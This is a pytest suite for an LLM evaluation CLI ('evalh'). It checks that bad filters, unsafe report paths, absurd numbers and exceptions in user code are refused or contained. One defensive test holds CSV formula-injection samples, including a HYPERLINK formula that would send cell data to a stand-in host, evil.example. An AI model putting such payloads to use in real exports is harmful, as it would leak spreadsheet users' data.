"""What ``evalh run`` refuses before the first provider call, and what it contains during the run.

Through the CLI in process (typer's CliRunner): a filter that selects nothing, report paths that would
overwrite an input or cannot be written, absurd numbers, CSV formula injection, user code that raises
SystemExit or a bare BaseException.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from evalh.cli.app import app
from evalh.common.limits import MAX_CONCURRENCY, MAX_REPEAT
from evalh.runner.plan import MAX_ROWS

SCHEMA = Path(__file__).resolve().parents[2] / "schemas" / "evalh.schema.json"


def evalh(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def _message(result: Result) -> str:
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    return " ".join(result.stderr.split())


MIXED = """
    tests:
      - description: alpha passes
        output: hello
        assert: [{type: equals, value: hello}]
      - description: beta fails
        output: bye
        assert: [{type: equals, value: hello}]
"""


# -- a filter that selects nothing ---------------------------------------------------------------


@pytest.mark.parametrize("extra", [[], ["--fail-under", "100"], ["--fail-under", "0"]])
def test_a_filter_pattern_that_matches_nothing_is_exit_2(tmp_path: Path, extra: list[str]) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    result = evalh("run", str(config), "--filter-pattern", "^alhpa", "--no-table", *extra)
    assert result.exit_code == 2
    message = _message(result)
    assert "--filter-pattern: '^alhpa' matched none of the 2 tests" in message
    assert "'alpha passes', 'beta fails'" in message
    assert evalh("validate", str(config), "--filter-pattern", "^alhpa").exit_code == 2


def test_filter_failing_says_how_many_rows_it_matched(tmp_path: Path) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    first = tmp_path / "first.json"
    assert evalh("run", str(config), "-o", str(first), "--no-table").exit_code == 1
    result = evalh("run", str(config), "--filter-failing", str(first), "--no-table")
    assert result.exit_code == 1
    assert f"--filter-failing {first}: 1 failed or errored test(s) among its 2 rows; re-running 1" in (
        _message(result)
    )


def test_filter_failing_that_selects_nothing_is_exit_2(tmp_path: Path) -> None:
    passing = write(
        tmp_path / "pass.yaml", "tests:\n  - output: ok\n    assert: [{type: equals, value: ok}]\n"
    )
    green = tmp_path / "green.json"
    assert evalh("run", str(passing), "-o", str(green), "--no-table").exit_code == 0
    result = evalh("run", str(passing), "--filter-failing", str(green), "--no-table")
    assert result.exit_code == 2
    assert "none of its 1 rows failed or errored, so there is nothing to re-run" in _message(result)

    other = write(tmp_path / "other.yaml", MIXED)
    red = tmp_path / "red.json"
    assert evalh("run", str(other), "-o", str(red), "--no-table").exit_code == 1
    result = evalh("run", str(passing), "--filter-failing", str(red), "--no-table", "--fail-under", "0")
    assert result.exit_code == 2
    assert "none of them is among this config's 1 tests" in _message(result)


# -- report paths, checked before the first call ------------------------------------------------


@pytest.fixture
def counted(tmp_path: Path) -> tuple[Path, Path]:
    """A config whose provider appends to calls.log on every call, with a prompt and a tests file."""
    script = write(tmp_path / "count.py", "open('calls.log', 'a').write('call\\n')\nprint('ok')\n")
    write(tmp_path / "prompt.txt", "say {{word}}")
    write(tmp_path / "tests.csv", "word,__expected\nok,equals:ok\n")
    config = write(
        tmp_path / "c.yaml",
        f"""
        prompts: [file://prompt.txt]
        providers: ["exec:{sys.executable} {script.name}"]
        tests: file://tests.csv
        """,
    )
    return config, tmp_path / "calls.log"


@pytest.mark.parametrize(
    ("outputs", "rule"),
    [
        (["c.yaml"], "c.yaml: is a file the run reads"),
        (["tests.csv"], "tests.csv: is a file the run reads"),
        (["prompt.txt"], "prompt.txt: is a file the run reads"),
        (["r.json", "sub/../r.json"], "sub/../r.json: is the same file as the report"),
        (["adir.json"], "adir.json: is a directory"),
        (["afile/r.json"], "afile is not a directory"),
        (["r.json", "r.docx"], "unsupported report format"),
    ],
)
def test_a_report_path_that_cannot_be_used_is_refused_before_any_call(
    tmp_path: Path, counted: tuple[Path, Path], outputs: list[str], rule: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    config, calls = counted
    (tmp_path / "adir.json").mkdir()
    write(tmp_path / "afile", "not a directory")
    before = {name: (tmp_path / name).read_bytes() for name in ("c.yaml", "tests.csv", "prompt.txt")}
    monkeypatch.chdir(tmp_path)
    result = evalh("run", str(config), *[arg for path in outputs for arg in ("-o", path)], "--no-table")
    assert result.exit_code == 2
    assert rule in _message(result)
    assert not calls.exists()  # no provider was called
    assert not (tmp_path / "r.json").exists()
    assert {name: (tmp_path / name).read_bytes() for name in before} == before


def test_output_path_in_the_config_cannot_overwrite_the_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    passing = "tests:\n  - output: ok\n    assert: [{type: equals, value: ok}]\n"
    config = write(tmp_path / "c.yaml", f"outputPath: c.yaml\n{passing}")
    before = config.read_bytes()
    monkeypatch.chdir(tmp_path)
    result = evalh("run", "c.yaml", "--no-table")
    assert result.exit_code == 2 and "c.yaml: is a file the run reads" in _message(result)
    assert config.read_bytes() == before
    checked = evalh("validate", "c.yaml")
    assert checked.exit_code == 2 and "c.yaml: is a file the run reads" in _message(checked)


def test_the_filter_failing_report_is_not_overwritten(tmp_path: Path) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    report = tmp_path / "r.json"
    assert evalh("run", str(config), "-o", str(report), "--no-table").exit_code == 1
    before = report.read_bytes()
    result = evalh("run", str(config), "--filter-failing", str(report), "-o", str(report), "--no-table")
    assert result.exit_code == 2 and "is a file the run reads" in _message(result)
    assert report.read_bytes() == before


def test_a_report_path_that_is_a_symlink_writes_its_target(tmp_path: Path) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "target.json"
    link = tmp_path / "link.json"
    link.symlink_to(target)
    assert evalh("run", str(config), "-o", str(link), "--no-table").exit_code == 1
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert len(json.loads(target.read_text(encoding="utf-8"))["results"]["results"]) == 2


# -- numbers ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--repeat", str(MAX_REPEAT + 1)),
        ("--repeat", "100000000000"),
        ("--repeat", "1e11"),
        ("--repeat", "0"),
        ("--max-concurrency", "0"),
        ("--max-concurrency", "-3"),
        ("--max-concurrency", str(MAX_CONCURRENCY + 1)),
    ],
)
def test_absurd_numbers_are_usage_errors_naming_the_flag(tmp_path: Path, flag: str, value: str) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    result = evalh("run", str(config), flag, value, "--no-table")
    assert result.exit_code == 2
    assert flag in _message(result)


def test_a_run_beyond_the_row_limit_is_refused_before_planning(tmp_path: Path) -> None:
    tests = "".join(f"  - output: ok{i}\n" for i in range(MAX_ROWS // MAX_REPEAT + 1))
    config = write(tmp_path / "c.yaml", f"tests:\n{tests}")
    result = evalh("run", str(config), "--repeat", str(MAX_REPEAT), "--no-table")
    assert result.exit_code == 2
    assert f"more than the limit of {MAX_ROWS:,}" in _message(result)


def test_the_schema_bounds_match_the_cli_bounds(tmp_path: Path) -> None:
    options = json.loads(SCHEMA.read_text(encoding="utf-8"))["properties"]["evaluateOptions"]["properties"]
    assert options["repeat"]["maximum"] == MAX_REPEAT
    assert options["maxConcurrency"]["maximum"] == MAX_CONCURRENCY
    config = write(
        tmp_path / "c.yaml", f"evaluateOptions: {{repeat: {MAX_REPEAT + 1}}}\n{textwrap.dedent(MIXED)}"
    )
    result = evalh("validate", str(config))
    assert result.exit_code == 2 and "evaluateOptions.repeat" in _message(result)


def test_validate_accepts_verbose(tmp_path: Path) -> None:
    config = write(tmp_path / "c.yaml", MIXED)
    result = evalh("validate", "--verbose", str(config))
    assert result.exit_code == 0 and "valid (2 tests" in result.stdout


# -- CSV formula injection --------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted(tmp_path: Path) -> None:
    outputs = {
        '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1": "'+1+1",
        "-2+3": "'-2+3",
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\tx": "'\tx",
        "-0.5": "-0.5",
        "+3": "+3",
        "plain": "plain",
    }
    tests = "".join(
        f"  - description: {json.dumps('d' + str(i))}\n    vars: {{v: {json.dumps(text)}}}\n"
        f"    output: {json.dumps(text)}\n"
        for i, text in enumerate(outputs)
    )
    config = write(tmp_path / "c.yaml", f"tests:\n{tests}")
    report = tmp_path / "r.csv"
    assert evalh("run", str(config), "-o", str(report), "--no-table").exit_code == 0
    lines = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8"), newline="")))
    header, rows = lines[0], lines[1:]
    output_column = header.index("[recorded] recorded")
    assert [row[output_column] for row in rows] == list(outputs.values())
    assert [row[header.index("v")] for row in rows] == list(outputs.values())
    assert all(row[output_column + 2] == "1.00" for row in rows)  # numbers evalh writes stay numbers


# -- user code that raises BaseException ---------------------------------------------------------


def test_systemexit_and_baseexception_from_user_code_fail_only_their_row(tmp_path: Path) -> None:
    write(
        tmp_path / "user.py",
        """
        import sys

        def call_api(prompt, options, context):
            if prompt == "exit":
                sys.exit(3)
            if prompt == "base":
                raise BaseException("not an Exception")
            return {"output": prompt}

        def check(output, context):
            if output == "grade-exit":
                raise BaseException("from an assertion")
            return True
        """,
    )
    config = write(
        tmp_path / "c.yaml",
        """
        prompts: ["{{q}}"]
        providers: [file://user.py]
        defaultTest:
          assert: [{type: python, value: file://user.py:check}]
        tests:
          - vars: {q: exit}
          - vars: {q: base}
          - vars: {q: grade-exit}
          - vars: {q: fine}
        """,
    )
    report = tmp_path / "r.json"
    result = evalh("run", str(config), "-o", str(report), "--no-table")
    assert result.exit_code == 1, result.stderr
    assert "Traceback" not in result.stderr
    rows = json.loads(report.read_text(encoding="utf-8"))["results"]["results"]
    assert [row["success"] for row in rows] == [False, False, False, True]
    assert [row["failureReason"] for row in rows] == [2, 2, 2, 0]
    assert "SystemExit: 3" in rows[0]["error"]
    assert "BaseException: not an Exception" in rows[1]["error"]
    assert "BaseException: from an assertion" in rows[2]["error"]


# -- a threshold on a pass/fail type ------------------------------------------------------------


THRESHOLD_ON_CONTAINS = """
    prompts: [hi]
    providers: [echo]
    tests:
      - assert:
          - {type: contains, value: hi, threshold: 0.5}
          - {type: similar, value: hi, threshold: 0.5, provider: fake:embedding}
"""


def test_a_threshold_on_a_pass_fail_type_is_a_located_warning(tmp_path: Path) -> None:
    # promptfoo ignores it silently; evalh says it is ignored, once, at its place
    config = write(tmp_path / "c.yaml", THRESHOLD_ON_CONTAINS)
    result = evalh("validate", str(config))
    assert result.exit_code == 0, result.stderr
    message = _message(result)
    assert message.count("evalh: warning:") == 1
    assert "c.yaml:6:9 tests[0].assert[0].threshold: contains has no threshold" in message
    assert "threshold 0.5 is ignored" in message


def test_a_threshold_on_a_pass_fail_type_is_an_error_under_strict(tmp_path: Path) -> None:
    config = write(tmp_path / "c.yaml", THRESHOLD_ON_CONTAINS)
    result = evalh("validate", "--strict", str(config))
    assert result.exit_code == 2
    assert "tests[0].assert[0].threshold: contains has no threshold" in _message(result)
